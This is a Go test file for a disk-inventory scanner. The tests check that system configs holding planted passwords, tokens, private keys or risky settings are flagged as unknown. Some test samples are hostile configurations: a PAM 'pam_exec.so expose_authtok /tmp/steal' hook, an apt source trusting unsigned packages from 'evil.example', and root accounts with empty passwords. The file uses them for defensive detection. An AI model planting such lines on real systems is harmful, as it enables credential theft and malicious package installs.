package inventory

import (
	"strings"
	"testing"

	"kamino.dev/kamino/agent/disk/disktest"
)

// TestChecks: what the table says of generated files is looked at, also where a check is a matter
// of the place's name.
func TestChecks(t *testing.T) {
	key := "\x99\x00\x04abcd\xb4\x03bob\x89\x00\x02xy"
	armor := "key of an archive\n-----BEGIN PGP PUBLIC KEY BLOCK-----\nVersion: 1\n\nmQAEYWJjZLQDYm9iiQACeHk=\n=AAAA\n-----END PGP PUBLIC KEY BLOCK-----\n"
	for name, c := range map[string]struct{ known, unknown []string }{
		"etc/passwd": {[]string{"root:x:0:0:root:/root:/bin/bash\n"}, []string{"root::0:0:root:/root:/bin/bash\n", "root:x:0:0::/:\n# password S0mmerRegen\n"}},
		"etc/shadow": {[]string{"root:!:19000:0:99999:7:::\nbin:*:1::::::\n"}, []string{"root::19000:0:99999:7:::\n", "root:$6$a$b:1::::::\n"}},
		"etc/group":  {[]string{"sudo:x:27:\nusers::100:\n"}, []string{"sudo:x:27:\n# password S0mmerRegen\n"}},
		"etc/pam.d/common-auth": {[]string{"auth [success=1 default=ignore] pam_unix.so nullok try_first_pass\n"},
			[]string{"auth required pam_exec.so expose_authtok /tmp/steal\n", "auth required /srv/pam_mine.so\n", "auth required pam_mysql.so passwd=S0mmerRegen\n"}},
		"etc/apt/sources.list.d/x.list": {[]string{"deb [signed-by=/usr/share/keyrings/x.gpg] https://deb.debian.org/debian bookworm main\n"},
			[]string{"deb https://apt.corp/pool/6f1d1c0e2f3a4a7b9a550c2b7e8d9f10/ stable main\n", "deb [trusted=yes] http://evil.example/ ./\n", "deb https://u:p@x/ ./\n", "# deb https://u:p@x/ ./\n"}},
		"etc/apt/sources.list.d/x.sources":      {[]string{"Types: deb\nURIs: http://x/\n"}, []string{"Types: deb\nURIs: http://x/\nTrusted: yes\n"}},
		"etc/yum.repos.d/x.repo":                {[]string{"[x]\nbaseurl=https://x\n"}, []string{"[x]\nbaseurl=https://x\nusername=svc\n", "[x]\nproxy_passwd=S0mmerRegen1987\n"}},
		"etc/apt/keyrings/x":                    {[]string{key, key + key, armor}, []string{"\x99\x01secret bytes that are no key at all", key + "more", "\x95" + key[1:], strings.Replace(armor, "mQAE", "lQAE", 1)}},
		"usr/share/keyrings/x.gpg":              {[]string{key}, []string{"\xc6S0mmerRegen1987"}},
		"etc/ssl/certs/ca-certificates.crt":     {[]string{"# x\n-----BEGIN CERTIFICATE-----\nMII=\n-----END CERTIFICATE-----\n"}, []string{"S0mmerRegen1987 but no header\n"}},
		"etc/ca-certificates.conf.secret":       {nil, []string{"S0mmerRegen1987\n"}},
		"etc/authselect/custom.key":             {nil, []string{"S0mmerRegen1987\n"}},
		"boot/grub/custom.cfg":                  {nil, []string{"password root S0mmerRegen1987\n"}},
		"boot/grub/grub.cfg":                    {[]string{"menuentry 'x' {\n}\n"}, []string{"password root S0mmerRegen1987\n", "  password_pbkdf2 root grub.pbkdf2\n"}},
		"etc/default/locale":                    {[]string{"LANG=C.UTF-8\nLC_ALL=C\n"}, []string{"LANG=C\nTOKEN=S0mmerRegen1987\n"}},
		"etc/resolv.conf":                       {[]string{"nameserver 10.0.0.10\n"}, []string{"search corp.internal # S0mmerRegen1987\n"}},
		"etc/.resolv.conf.systemd-resolved.bak": {[]string{"nameserver 10.0.0.10\n"}, []string{"search corp.internal # S0mmerRegen1987\n"}},
		"etc/audit/audit.rules":                 {[]string{"## from rules.d\n-D\n-b 8192\n-f 1\n"}, []string{"-D\n# password = S0mmerRegen1987\n"}},
		"etc/apparmor.d/tunables/home.d/ubuntu": {[]string{"#@{HOMEDIRS}+=\n"}, []string{"# token = q8Zr2LmT5vXw9BnC\n"}},
		"var/cache/debconf/config.dat": {[]string{"Name: tzdata/Areas\nValue: Etc\n\nName: x/password\nValue: \n\nName: base-passwd/group\nValue: yes\n\nName: x/password-again\nValue: false\n"},
			[]string{"Name: mysql-server/root_password\nTemplate: x\nValue: S0mmerRegen1987\n", "Name: agent/api_key\nTemplate: x\nValue: S0mmerRegen1987\n"}},
		"etc/cloud/cloud.cfg.d/50-accounts.cfg": {[]string{"#cloud-config\nusers:\n  - default\nchpasswd: {expire: false}\n"},
			[]string{"#cloud-config\nchpasswd:\n  expire: false\n  list: |\n    root:summer\n"}},
		"var/lib/docker/image/overlay2/distribution/x": {nil, []string{"S0mmerRegen1987"}},
		"var/lib/dpkg/info/x.key":                      {nil, []string{"S0mmerRegen1987"}},
		"etc/hosts":                                    {[]string{"127.0.0.1 localhost\n10.0.0.4 registry.internal\n"}, []string{"10.0.0.4 x # S0mmerRegen1987\n", "S0mmerRegen1987\n"}},
		"etc/default/kubelet": {[]string{"KUBELET_FLAGS=--authorization-mode=Webhook --tls-cipher-suites=TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256 --bootstrap-kubeconfig=/var/lib/kubelet/bootstrap\n",
			"KUBELET_EXTRA_ARGS=\"--pod-infra-container-image=registry.k8s.io/pause@sha256:" + strings.Repeat("0a1b", 16) + "\"\n"},
			[]string{"KUBELET_FLAGS=--token=S0mmerRegen\n", "HTTPS_PROXY=http://svc:Pa55@proxy:8080\n", "X=0a1b2c3d4e5f60718293a4b5\n", "# S0mmerRegen1987S0mmerRegen\n", "\x00binary"}},
		"etc/systemd/system/containerd.service.d/proxy.conf": {[]string{"[Service]\nEnvironment=\"HTTPS_PROXY=http://proxy.corp:8080\"\n"},
			[]string{"[Service]\nEnvironment=\"HTTPS_PROXY=http://svc:Pa55w0rd!@proxy.corp:8080\"\n", "[Service]\nExecStartPre=/usr/bin/curl -usvc:summer https://portal.example/\n"}},
		"etc/systemd/system/unheard-of.service": {nil, []string{"[Service]\nExecStart=/usr/bin/true\n"}},
		"etc/containerd/config.toml": {[]string{"version = 2\n[plugins.\"io.containerd.grpc.v1.cri\"]\n"},
			[]string{"[plugins.\"io.containerd.grpc.v1.cri\".registry.configs.\"r.io\".auth]\n  password = \"S0mmer\"\n", "auth = \"dXNlcjpwYXNz\"\n"}},
		"var/lib/kubelet/config.yaml": {[]string{"kind: KubeletConfiguration\nauthentication:\n  x509:\n    clientCAFile: /etc/kubernetes/pki/ca.crt\n"}, []string{"staticPodURLHeader:\n  Authorization: [Bearer abc]\ntoken: abc\n"}},
		// A clone whose configuration was changed in place is a donor like any other.
		"var/lib/kamino/base/kubelet-config.yaml": {[]string{"apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\nauthentication:\n  anonymous: {enabled: false}\n  webhook: {enabled: true}\n" +
			"  x509: {clientCAFile: /etc/kamino/ca.crt}\nauthorization: {mode: Webhook}\ncontainerRuntimeEndpoint: unix:///run/containerd/containerd.sock\nrotateCertificates: true\n"},
			[]string{"token: S0mmerRegen\n"}},
		"etc/kamino/ca.crt":                {[]string{"-----BEGIN CERTIFICATE-----\nMII=\n-----END CERTIFICATE-----\n"}, []string{"-----BEGIN PRIVATE KEY-----\nMII=\n"}},
		"etc/kubernetes/pki/ca.crt":        {[]string{"-----BEGIN CERTIFICATE-----\nMII=\n-----END CERTIFICATE-----\n"}, []string{"-----BEGIN PRIVATE KEY-----\nMII=\n"}},
		"etc/systemd/network/10-x.network": {[]string{"[Match]\nName=en*\n"}, []string{"[Match]\nMACAddress=00:11:22:33:44:55\n"}},
		"usr/local/bin/kubelet":            {[]string{"\x7fELF password=S0mmerRegen1987", "\x7fELF" + strings.Repeat("0123456789abcdef", 1<<18+1)}, nil},
		"usr/bin/kubelet-start": {[]string{"#!/bin/sh\nexec /usr/bin/kubelet \"$@\"\n"},
			[]string{"#!/bin/sh\nexport DB_PASSWORD=S0mmerRegen1987\n", "#!/bin/sh\npassword=S0mmerRegen\n" + strings.Repeat("# a line\n", 1<<19)}},
		"usr/sbin/kubectl-login":  {nil, []string{"#!/bin/sh\ncurl -usvc:S0mmerRegen https://portal.example/\n", "#!/bin/sh\ncurl --user svc:S0mmerRegen https://portal.example/\n"}},
		"opt/cni/bin/agent.conf":  {nil, []string{"password=S0mmerRegen1987\n"}},
		"boot/grub2/grub.cfg":     {[]string{"linux /vmlinuz netroot=iscsi:10.0.0.5::3260::iqn.x\n"}, []string{"linux /vmlinuz netroot=iscsi:svc:summer@10.0.0.5::3260::iqn.x\n"}},
		"usr/local/bin/something": {nil, []string{"\x7fELF"}},
	} {
		t.Run(name, func(t *testing.T) {
			for want, texts := range [][]string{c.known, c.unknown} {
				for _, text := range texts {
					r, err := Look(t.Context(), disktest.New(t, map[string]string{name: text}), Options{})
					if err != nil || len(r.Unknown) != want {
						t.Errorf("/%s with %q: unknown %v, %v", name, text, r.Unknown, err)
					}
				}
			}
		})
	}
}

// TestPasswords: a password is not known by a place and a check of its text, whatever else the text
// is: in a comment, in a sentence, in a list, as an argument, in an address, in a variable of any
// name, and in an encoding.
func TestPasswords(t *testing.T) {
	const drop = "etc/systemd/system/kubelet.service.d/10-own.conf"
	for _, c := range []struct{ name, unknown, known string }{
		{"etc/hosts", "127.0.0.1 localhost\n# bmc admin / Winter2024x\n", "127.0.0.1 localhost\n# for IPv6 capable hosts, by the administrator\n"},
		{"etc/sysctl.d/a.conf", "# root pw is Winter2024x\n", "# password file: see IPv6Forwarding\nnet.ipv4.ip_forward=1\n"},
		{"etc/modules", "# vpn psk Winter2024x\nloop\n", "# psk of nothing\nloop\n"},
		{"etc/crictl.yaml", "# registry admin:Winter2024x\n", "runtime-endpoint: unix:///run/containerd/containerd.sock\n"},
		{"etc/kubernetes/pki/ca.crt", "-----BEGIN CERTIFICATE-----\nMII=\n-----END CERTIFICATE-----\n# key pw Winter2024x\n", "# Root CA X1Y2Z3\n-----BEGIN CERTIFICATE-----\nz432wwVS8e51L0mXoy=\n-----END CERTIFICATE-----\n"},
		{"etc/fstab", "# share: tr0Meling7x\n", "UUID=0a1b2c3d-1111-4222-8333-444455556666 / ext4 defaults 0 1\n"},
		{"etc/vconsole.conf", "KEYMAP=us # console password Winter2024x\n", "KEYMAP=us\nFONT=eurlatgr\n"},
		{"etc/nsswitch.conf", "# ldap: tr0Meling7x\n", "passwd: files systemd\n"},
		{"etc/default/locale", "LANG=tr0Meling7x\n", "LANG=en_US.UTF-8\n"},
		{"etc/ssh/sshd_config.d/a.conf", "ForceCommand /bin/x --pw Winter2024x\n", "X11DisplayOffset 10\nPermitRootLogin prohibit-password\n"},
		{"etc/kubernetes/kubelet/a.yaml", "staticPodURLHeader:\n  X-Auth: [summer]\n", "tlsMinVersion: VersionTLS12\nstaticPodURLHeader:\n  X-Auth: []\n"},
		{"etc/pam.d/common-session", "session optional pam_radius_auth.so 10.0.0.1 tr0Meling7x\n", "session optional pam_umask.so umask=0077\n"},
		{"etc/iptables/rules.v4", "-A INPUT -m comment --comment \"tr0Meling7x\" -j ACCEPT\n", "-A INPUT -m comment --comment \"loopback\" -j ACCEPT\n"},
		{"boot/grub/grub.cfg", "if true; then password root summer\nfi\n", "menuentry 'GNU/Linux' --class os $menuentry_id_option 'gnulinux-0a1b2c3d-1111-4222-8333-444455556666' {\n}\n"},
		{"etc/apt/sources.list.d/x.list", "deb https://r.example/abcdefghij0123456789klmnop/debian any main\n", "deb https://deb.nodesource.com/node_20.x nodistro main\n"},
		{"etc/yum.repos.d/x.repo", "[x]\nbaseurl=https://r.example/priv/tr0Meling7x/rpm\n", "[x]\nmirrorlist=https://cdn.amazonlinux.com/al2023/core/mirrors/$releasever/$basearch/mirror.list\ngpgkey=file:///etc/pki/rpm-gpg/RPM-GPG-KEY-amazon-linux-2023\n"},
		{"etc/apt/sources.list.d/x.sources", "URIs: https://x\n# tr0Meling7x\n", "URIs: https://x\nSigned-By:\n -----BEGIN PGP PUBLIC KEY BLOCK-----\n .\n mQINBGTr0Meling7xVS8e51L0mXoy\n -----END PGP PUBLIC KEY BLOCK-----\n"},
		{drop, "[Service]\nEnvironment=DB=Winter2024x\n", "[Service]\nEnvironment=\"KUBELET_ARGS=--tls-min-version=VersionTLS12 --v=2\" GODEBUG=http2client=0\n"},
		{drop, "[Service]\nEnvironment=\"PGOPTIONS=x\" \"DBPWD=Abc-def-9-ghi-jkl\"\n", "[Service]\nEnvironment=AWS_REGION=us-west-2 KUBE_CONFIG=/etc/X1Conf\n"},
		{drop, "[Service]\nEnvironment=DATADOG=6f1d1c0e-2f3a-4a7b-9a55-0c2b7e8d9f10\n", "[Service]\nEnvironment=FEATURES=RotateKubelet1Cert=true,X=false\n"},
		{drop, "[Service]\nEnvironment=HTTPS_PROXY=http://svc%3Asummer%40proxy:3128\n", "[Service]\nEnvironment=HTTPS_PROXY=http://proxy:3128\n"},
		{"etc/systemd/system/mnt.mount", "[Mount]\nWhat=//s/x\nOptions=user=x,secret=summer\n", "[Mount]\nWhat=UUID=0a1b2c3d-1111-4222-8333-444455556666\n"},
		{"etc/cloud/cloud.cfg.d/a.cfg", "write_files:\n- path: /x\n  encoding: b64\n  content: |\n    cGFzc3dv\n    cmQ9c3Vt\n", "datasource_list: [ Azure ]\ncloud_init_modules:\n - write_files\n - bootcmd\n"},
		{"etc/cloud/cloud.cfg.d/b.cfg", "{\"runcmd\": [\"xxd -r -p > /k <<< '7061 7373'\"]}\n", "system_info: {default_user: {name: admin, lock_passwd: True}}\n"},
	} {
		for want, text := range []string{c.known, c.unknown} {
			r, err := Look(t.Context(), disktest.New(t, map[string]string{c.name: text}), Options{})
			if err != nil || len(r.Unknown) != want {
				t.Errorf("/%s with %q: unknown %v, %v", c.name, text, r.Unknown, err)
			}
		}
	}
}

// FuzzPublicKeys: no bytes break the reader of packets.
func FuzzPublicKeys(f *testing.F) {
	for _, seed := range []string{"\x99\x00\x04abcd", "\xc6\xff\x00\x00\x00\x01a", "\xc6\xe0", "\x9b", "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n-----END PGP PUBLIC KEY BLOCK-----"} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if packets(data) && len(data) > 0 && data[0]&0x80 == 0 {
			t.Errorf("%x is no packet", data)
		}
		_ = publicKeys(nil, "", data)
	})
}

// TestGeneratedLinks: of links that lead nowhere on the disk, those into memory and to what images
// leave out are known.
func TestGeneratedLinks(t *testing.T) {
	for name, c := range map[string]struct {
		target string
		known  bool
	}{
		"etc/resolv.conf": {"../run/systemd/resolve/stub-resolv.conf", true}, "etc/mtab": {"/proc/self/mounts", true}, "dev/stdout": {"/proc/self/fd/1", true}, "dev/fd": {"fd", true},
		"etc/alternatives/awk.1.gz": {"/usr/share/man/man1/mawk.1.gz", true}, "usr/share/man/man1/awk.1.gz": {"/etc/alternatives/awk.1.gz", true}, "var/log/README": {"../../usr/share/doc/systemd/README.logs", true},
		"etc/alternatives/awk": {"/srv/awk", false}, "var/log/pods": {"/data/pods", false},
	} {
		if got := generatedLink(name, c.target); got != c.known {
			t.Errorf("/%s to %s: known %t, want %t", name, c.target, got, c.known)
		}
	}
}
